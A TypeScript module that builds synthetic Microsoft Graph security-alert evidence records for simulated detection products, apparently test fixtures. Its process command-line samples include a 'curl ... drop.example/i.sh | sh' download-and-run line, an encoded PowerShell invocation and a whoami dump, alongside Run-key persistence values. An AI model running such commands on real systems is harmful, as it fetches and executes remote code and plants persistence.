import { formatTicks, type Ticks } from "../model/ticks.ts";
import {
  address,
  before,
  type Device,
  device,
  exactNumber,
  type Person,
  person,
  type Surroundings,
} from "./invention.ts";
import type { Random } from "./random.ts";

/** Where a piece of evidence comes from: the same random numbers, the same piece. */
export interface Scene {
  readonly random: Random;
  readonly around: Surroundings;
  readonly at: Ticks;
  readonly device: Device;
  readonly user: Person;
}

type Evidence = Readonly<Record<string, unknown>>;
type Maker = (scene: Scene) => Evidence;

const HOUR_MS = 3_600_000;
const VERDICTS = ["suspicious", "malicious", "unknown", "noThreatsFound"] as const;
/** The last four are known only to clients that ask for unknown members. */
const REMEDIATIONS = [
  "none",
  "none",
  "none",
  "remediated",
  "prevented",
  "blocked",
  "active",
  "unremediated",
  "running",
] as const;

const TYPE_NAMES = {
  device: "deviceEvidence",
  user: "userEvidence",
  file: "fileEvidence",
  process: "processEvidence",
  registryKey: "registryKeyEvidence",
  registryValue: "registryValueEvidence",
  ip: "ipEvidence",
  url: "urlEvidence",
  mailbox: "mailboxEvidence",
  message: "analyzedMessageEvidence",
  mailCluster: "mailClusterEvidence",
  hugeMailCluster: "mailClusterEvidence",
  cloudApplication: "cloudApplicationEvidence",
  oauthApplication: "oauthApplicationEvidence",
  logonSession: "cloudLogonSessionEvidence",
  azureResource: "azureResourceEvidence",
  blob: "blobEvidence",
  malware: "malwareEvidence",
} as const;
export type EvidenceKind = keyof typeof TYPE_NAMES;

/** The evidence types of Graph security alerts that the simulated products find, each with all its fields. */
const MAKERS: Readonly<Record<EvidenceKind, Maker>> = {
  device: ({ random, around, at, device }) => ({
    firstSeenDateTime: before(at, 9000 * HOUR_MS, random),
    mdeDeviceId: device.id,
    azureAdDeviceId: random.chance(0.5) ? null : random.guid(),
    deviceDnsName: device.dnsName,
    hostName: device.name,
    ntDomain: random.chance(0.5) ? null : "CORP",
    dnsDomain: `corp.${around.domain}`,
    osPlatform: device.platform,
    osBuild: device.build,
    version: "23H2",
    healthStatus: random.pick(["active", "inactive", "unknown"]),
    riskScore: random.pick(["none", "low", "medium", "high"]),
    rbacGroupId: random.whole(0, 90),
    rbacGroupName: random.chance(0.3) ? null : "UnassignedGroup",
    onboardingStatus: "onboarded",
    defenderAvStatus: random.pick(["updated", "notUpdated", "unknown"]),
    lastIpAddress: `10.0.${random.whole(0, 255)}.${random.whole(1, 254)}`,
    lastExternalIpAddress: address(random),
    ipInterfaces: ["10.0.0.7", "fe80::1ff:fe23:4567:890a%eth2", "127.0.0.1"].slice(0, random.whole(0, 3)),
    vmMetadata: null,
    loggedOnUsers: [{ accountName: person(random, around).account, domainName: "CORP" }].slice(
      0,
      random.whole(0, 1),
    ),
    resourceAccessEvents: [],
  }),
  user: ({ user, around }) => ({ userAccount: account(user, around), stream: null }),
  file: ({ random, device }) => ({
    fileDetails: fileDetails(random),
    detectionStatus: random.pick(["detected", "blocked", "prevented"]),
    mdeDeviceId: device.id,
  }),
  process: ({ random, at, device, user, around }) => ({
    processId: random.whole(400, 65_000),
    parentProcessId: random.whole(4, 9000),
    processCommandLine: commandLine(random),
    processCreationDateTime: before(at, HOUR_MS, random),
    parentProcessCreationDateTime: before(at, 30 * HOUR_MS, random),
    detectionStatus: "detected",
    mdeDeviceId: device.id,
    imageFile: fileDetails(random),
    parentProcessImageFile: random.chance(0.2) ? null : fileDetails(random),
    userAccount: account(user, around),
  }),
  registryKey: () => ({
    registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    registryHive: "HKEY_LOCAL_MACHINE",
  }),
  registryValue: ({ device }) => ({
    mdeDeviceId: device.id,
    registryHive: "HKEY_CURRENT_USER",
    registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
    registryValue: '"C:\\ProgramData\\updater.exe" /s',
    registryValueName: "Updater",
    registryValueType: "REG_SZ",
  }),
  ip: ({ random }) => ({
    ipAddress: random.chance(0.05) ? "" : address(random),
    countryLetterCode: random.pick(["DE", "US", "JP", "BR"]),
    location: random.chance(0.5)
      ? null
      : {
          city: random.pick(["München", "São Paulo", "大阪市"]),
          countryName: "Example",
          state: null,
          latitude: exactNumber("48.1370"),
          longitude: exactNumber("11.5750"),
        },
    stream: null,
  }),
  url: ({ random }) => ({ url: `https://login-${random.hex(6)}.example/verify?u=1&token=${random.hex(12)}` }),
  mailbox: ({ user, around }) => ({
    primaryAddress: user.upn,
    displayName: user.displayName,
    upn: user.upn,
    userAccount: account(user, around),
  }),
  message: ({ random, at, user }) => ({
    networkMessageId: random.guid(),
    internetMessageId: `<${random.hex(24)}@mail.invoice.example>`,
    subject: random.pick([
      "Rechnung \u2013 letzte Mahnung",
      "RE: payroll update",
      "【重要】アカウントの確認",
      "Invoice\u00a07731",
    ]),
    language: "und",
    senderIp: address(random),
    recipientEmailAddress: user.upn,
    antiSpamDirection: "inbound",
    deliveryAction: "delivered",
    deliveryLocation: random.pick(["inbox", "junkFolder", "quarantine"]),
    urn: `urn:MailEntity:${random.hex(32)}`,
    threats: ["ZapPhish"],
    threatDetectionMethods: ["AdvancedFilter", "UrlReputation"].slice(0, random.whole(0, 2)),
    urls: [`https://invoice-${random.hex(4)}.example/`],
    urlCount: 1,
    attachmentsCount: exactNumber("0"),
    receivedDateTime: before(at, 4 * HOUR_MS, random),
    p1Sender: { emailAddress: "billing@invoice.example", displayName: null, domainName: "invoice.example" },
    p2Sender: { emailAddress: "billing@invoice.example", displayName: "Büro", domainName: "invoice.example" },
  }),
  mailCluster: ({ random }) => mailCluster(random, random.whole(1, 4)),
  /** Hundreds of kilobytes, as mail clusters of large campaigns are. */
  hugeMailCluster: ({ random }) => mailCluster(random, random.whole(4000, 9000)),
  cloudApplication: ({ random }) => ({
    // Identifiers beyond 2^53: a reader that takes them for floating point numbers changes them.
    appId: exactNumber(`92233720368547${random.whole(10_000, 75_807)}`),
    instanceId: exactNumber(`90071992547409${random.whole(10, 99)}`),
    saasAppId: exactNumber(`1153${random.whole(1, 9)}`),
    displayName: "Beispiel Drive\u2122",
    instanceName: "Main",
    stream: null,
  }),
  oauthApplication: ({ random }) => ({
    appId: random.guid(),
    objectId: random.guid(),
    displayName: "Mail Merge Pro",
    publisher: null,
  }),
  logonSession: ({ random, at, user, around, device }) => ({
    account: { ...base(at, random, "user"), userAccount: account(user, around), stream: null },
    sessionId: random.guid(),
    browser: "Firefox 144.0",
    operatingSystem: device.platform,
    deviceName: device.name,
    userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    protocol: null,
    startUtcDateTime: before(at, HOUR_MS, random),
    previousLogonDateTime: null,
  }),
  azureResource: ({ random }) => ({
    resourceId: `/subscriptions/${random.guid()}/resourceGroups/rg-example/providers/Microsoft.Storage/storageAccounts/ex${random.hex(6)}`,
    resourceName: `ex${random.hex(6)}`,
    resourceType: "Microsoft.Storage/storageAccounts",
  }),
  blob: ({ random }) => ({
    name: `export-${random.whole(1, 99)}.zip`,
    url: `https://store.example/c/export-${random.hex(4)}.zip`,
    etag: `0x8DC${random.hex(12).toUpperCase()}`,
    fileHashes: [{ algorithm: "md5", value: random.hex(32) }],
    blobContainer: null,
  }),
  malware: ({ random }) => ({
    name: "Trojan:Win32/Beispiel!MSR",
    category: "Trojan",
    files: [],
    processes: [],
    ...odd(random),
  }),
};

export function evidence(kind: EvidenceKind, scene: Scene): Evidence {
  return { ...base(scene.at, scene.random, kind), ...MAKERS[kind](scene) };
}

export function sceneOf(random: Random, around: Surroundings, at: Ticks): Scene {
  return { random, around, at, device: device(random, around), user: person(random, around) };
}

function base(at: Ticks, random: Random, kind: EvidenceKind): Evidence {
  return {
    "@odata.type": `#microsoft.graph.security.${TYPE_NAMES[kind]}`,
    createdDateTime: random.chance(0.5) ? formatTicks(at) : before(at, 60_000, random),
    verdict: random.pick(VERDICTS),
    remediationStatus: random.pick(REMEDIATIONS),
    remediationStatusDetails: random.chance(0.8) ? null : "Entity was pre-remediated by Windows Defender",
    roles: random.chance(0.7) ? [] : [random.pick(["compromised", "attacked", "source", "contextual"])],
    detailedRoles: random.chance(0.7) ? [] : ["PrimaryDevice"],
    tags: random.chance(0.8) ? [] : ["Tier-0", "Büro"],
  };
}

function account(user: Person, { tenantId }: Surroundings): Evidence {
  return {
    accountName: user.account,
    domainName: "CORP",
    userSid: user.sid,
    azureAdUserId: user.objectId,
    userPrincipalName: user.upn,
    displayName: user.displayName,
    activeDirectoryObjectGuid: null,
    tenantId,
    resourceAccessEvents: [],
  };
}

function fileDetails(random: Random): Evidence {
  return {
    sha1: random.hex(40),
    sha256: random.hex(64),
    md5: random.hex(32),
    sha256Ac: null,
    fileName: random.pick(["updater.exe", "Rechnung März.docm", "ls", "svc host.exe", "請求書.pdf.js"]),
    filePath: random.pick([
      "C:\\ProgramData",
      "C:\\Users\\Public\\Temp",
      "/usr/local/bin",
      "\\\\files\\share$",
    ]),
    fileSize: random.whole(100, 90_000_000),
    filePublisher: random.chance(0.5) ? null : "Example Software GmbH & Co. KG",
    signer: null,
    issuer: null,
  };
}

function commandLine(random: Random): string {
  return random.pick([
    `powershell.exe -NoProfile -EncodedCommand ${random.hex(random.whole(40, 400))}`,
    '"cmd.exe" /c "whoami /all > %TEMP%\\a.txt & type %TEMP%\\a.txt"',
    "rundll32.exe C:\\ProgramData\\x.dll,#1",
    "/bin/sh -c 'curl -s https://drop.example/i.sh | sh'",
  ]);
}

function mailCluster(random: Random, messages: number): Evidence {
  return {
    networkMessageIds: Array.from({ length: messages }, () => random.guid()),
    emailCount: messages,
    clusterBy: "SenderIp;ContentType",
    clusterByValue: `${address(random)};1`,
    query: `( (( (SenderIp:"${address(random)}") ) AND ( (ContentType: 1) )) AND NOT(XmiInfoTenantPolicyFinalVerdictSource:PhishEdu))`,
    urn: `urn:MailClusterEntity:${random.hex(32)}`,
  };
}

/** Now and then a key that no schema knows yet. */
function odd(random: Random): Evidence {
  return random.chance(0.5) ? {} : { signatureVersion: exactNumber("18446744073709551615") };
}
